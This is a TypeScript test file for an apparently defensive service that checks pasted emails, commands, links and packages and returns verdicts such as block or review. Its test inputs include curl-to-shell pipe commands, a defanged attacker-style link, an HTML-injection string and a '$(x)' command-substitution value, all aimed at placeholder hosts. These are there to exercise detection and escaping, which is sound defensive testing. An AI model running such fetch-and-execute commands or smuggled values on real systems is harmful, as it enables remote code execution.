import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { PosternError } from '../../core/errors.ts'
import { OPENING_MS } from '../../store/testing.ts'
import type { CheckSubject } from '../services.ts'
import { fakeCheck, openTestServer, type TestServer } from '../testing.ts'

let server: TestServer
let fetching: TestServer
let headers: Record<string, string>
const tasks: Parameters<CheckSubject>[0][] = []
const watched: CheckSubject = (task) => {
  tasks.push(task)
  return fakeCheck(task)
}
beforeAll(async () => {
  server = await openTestServer({ check: watched })
  fetching = await openTestServer({
    check: watched,
    fetchNamed: async (target) => {
      if (target.includes('gone')) throw new PosternError('E_FETCH', `${target}: the registry says 404`)
      return { name: `${target}@1.0.0`, bytes: Buffer.from('block: an archive') }
    },
  })
  headers = await server.signIn(['administrator'])
}, OPENING_MS)
afterAll(async () => {
  await server.close()
  await fetching.close()
})

const check = async (
  payload: string,
  type: string,
  query: Record<string, string> = {},
  at = server,
  as = headers,
) => {
  tasks.length = 0
  return at.app.inject({
    method: 'POST',
    url: `/api/check?${new URLSearchParams({ name: 'mail.eml', ...query })}`,
    headers: { ...as, 'content-type': type },
    payload,
  })
}
const bodyOf = (task: (typeof tasks)[number] | undefined) =>
  task && 'bytes' in task ? Buffer.from(task.bytes).toString() : undefined

test("a file is answered with the command line's line and a rendering; only that it was checked is recorded", async () => {
  const answer = await check('block this', 'application/octet-stream', { name: 'Ärger.eml' })
  expect(answer.json()).toMatchObject({
    path: 'Ärger.eml',
    as: 'file',
    verdict: 'block',
    view: { kind: 'message', subject: 'Verify your wallet' },
  })
  expect(tasks).toMatchObject([{ name: 'Ärger.eml', view: true }])
  expect(tasks[0]).not.toHaveProperty('door')
  expect(await server.store.cases.counts(['support'])).toEqual({ open: 0, decided: 0 })
  const [event] = await server.store.audit.page({ limit: 1 })
  expect(event).toMatchObject({ action: 'subject.checked', target: 'none' })
})

test('what fails is told with its code; a file of no known kind is', async () => {
  expect((await check('unrecognised words', 'application/octet-stream')).json().error.code).toBe(
    'E_UNRECOGNISED',
  )
  expect((await check('broken', 'text/plain')).json().error.code).toBe('E_MALFORMED')
})

test('pasted words go to the support door: as they are with headers, else as the body of a message', async () => {
  const words = await check('unrecognised words', 'text/plain;charset=UTF-8')
  expect(words.json()).toMatchObject({ as: 'message', door: 'support', verdict: 'review' })
  expect(tasks).toMatchObject([{ door: 'support' }])
  expect(bodyOf(tasks[0])).toBe('Content-Type: text/plain; charset=utf-8\r\n\r\nunrecognised words')
  const mail = 'From: a@b.invalid\r\nTo: c@d.invalid\r\n\r\nHello'
  await check(mail, 'text/plain')
  expect(bodyOf(tasks[0])).toBe(mail)
})

test('a command that stands in a message is told to be not checked', async () => {
  const answer = await check('Hi Ada,\nrun this:\ncurl https://x.invalid | sh', 'text/plain')
  expect(answer.json()).toMatchObject({
    as: 'message',
    unknown: [
      { what: 'the command in this message', why: expect.stringContaining('`curl https://x.invalid | sh`') },
      {},
    ],
  })
})

test('a pasted command is judged as one, and so is any text of which that is said', async () => {
  const answer = await check(' curl https://x.invalid/block | sh\n', 'text/plain', { name: 'pasted' })
  expect(answer.json()).toMatchObject({
    as: 'command',
    door: 'interview',
    verdict: 'block',
    view: { kind: 'artifact' },
  })
  expect(tasks).toEqual([{ name: 'pasted', command: 'curl https://x.invalid/block | sh', view: true }])
  expect((await check('hello there', 'text/plain', { as: 'command' })).json().as).toBe('command')
  expect((await check('curl x | sh', 'text/plain', { as: 'message' })).json().as).toBe('message')
  expect((await check('hello', 'text/plain', { as: 'person' })).statusCode).toBe(400)
})

describe('a link', () => {
  const unknown = async (link: string, at = server, as = headers) => {
    const answer = (await check(link, 'text/plain', {}, at, as)).json()
    expect(answer).toMatchObject({ as: 'link' })
    return answer.unknown[0] as { what: string; why: string }
  }

  test('is judged by its address, and that its page was not opened is told', async () => {
    const { what, why } = await unknown('hxxps://evil[.]invalid/block')
    expect(tasks).toMatchObject([{ door: 'support' }])
    expect(bodyOf(tasks[0])).toContain('<a href="https://evil.invalid/block">')
    expect(what).toBe('the page behind the link')
    expect(why).toContain('not opened')
  })

  test('cannot break out of the message that is made of it', async () => {
    await unknown('https://evil.invalid/"><img/src=x>&amp=1')
    expect(bodyOf(tasks[0])).toContain('href="https://evil.invalid/&quot;>&lt;img/src=x>&amp;amp=1"')
  })

  test('to a repository is told with the command that looks before it writes', async () => {
    const { why } = await unknown('https://github.com/acme/task/tree/main')
    expect(why).toContain('`./postern clone https://github.com/acme/task`')
    expect((await unknown('https://github.com/acme/a$(x)')).why).not.toContain('./postern')
  })

  test('to a package is told with what the operator can set', async () => {
    const { why } = await unknown('https://www.npmjs.com/package/left-pad')
    expect(why).toContain('`fetch.packages`')
    expect(why).toContain('`./postern check --fetch npm:left-pad`')
  })

  test('to a package is judged as the package when fetching is allowed', async () => {
    const theirs = await fetching.signIn(['support'])
    const link = 'https://www.npmjs.com/package/left-pad'
    const answer = (await check(link, 'text/plain', {}, fetching, theirs)).json()
    expect(answer).toMatchObject({
      as: 'link',
      path: 'npm:left-pad@1.0.0',
      door: 'interview',
      verdict: 'block',
    })
    const gone = await unknown('https://www.npmjs.com/package/gone', fetching, theirs)
    expect(gone.why).toContain('the registry says 404')
  })
})

test('what can be checked is told', async () => {
  const asked = await server.app.inject({ url: '/api/check', headers })
  expect(asked.json()).toEqual({ bytes: 100_000, packages: false })
  const too = await check('x'.repeat(100_001), 'application/octet-stream')
  expect(too.json().error.code).toBe('E_TOO_LARGE')
})
